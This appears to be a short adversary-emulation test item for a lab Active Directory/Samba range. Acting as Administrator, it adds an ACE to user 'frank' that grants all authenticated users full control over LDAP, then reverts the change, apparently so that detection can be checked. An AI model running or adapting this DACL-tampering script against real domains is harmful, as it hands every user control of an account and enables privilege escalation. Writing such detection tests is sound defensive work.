# SPDX-License-Identifier: Apache-2.0
# what: everybody given all rights to an account (LDAP), and back
# technique: T1222.001
# from: ws1
# to: dc1
# account: Administrator
# outcome: success
# must: finding directory
. "$RANGE_HERE/item.sh"
dn='CN=frank,CN=Users,DC=corp,DC=range,DC=test'
was=$(ldapsearch -LLL -o ldif-wrap=no -x -H ldap://$dc1 -D "Administrator@$DOMAIN_DNS" -w "$ADMIN_PASSWORD" -b "$dn" -s base nTSecurityDescriptor | sed -n 's/^nTSecurityDescriptor:: //p')
[ -n "$was" ] || was=$(at dc1 ldbsearch -H /var/lib/samba/private/sam.ldb -b "$dn" -s base nTSecurityDescriptor | sed -n '/^nTSecurityDescriptor:: /,/^[^ ]/{s/^nTSecurityDescriptor:: //p;s/^ //p}' | tr -d '\n')
new=$(/usr/bin/python3 -c "
import base64, sys
from samba.dcerpc import security
from samba.ndr import ndr_pack, ndr_unpack
sd = ndr_unpack(security.descriptor, base64.b64decode(sys.argv[1]))
sd.dacl_add(security.descriptor.from_sddl('D:(A;;GA;;;AU)', security.dom_sid('S-1-5-21-1-2-3')).dacl.aces[0])
print(base64.b64encode(ndr_pack(sd)).decode())" "$was")
s() { printf 'dn: %s\nchangetype: modify\nreplace: nTSecurityDescriptor\nnTSecurityDescriptor:: %s\n' "$dn" "$1" | ldapmodify -x -H ldap://$dc1 -D "Administrator@$DOMAIN_DNS" -w "$ADMIN_PASSWORD"; }
s "$new" || exit 1
s "$was"
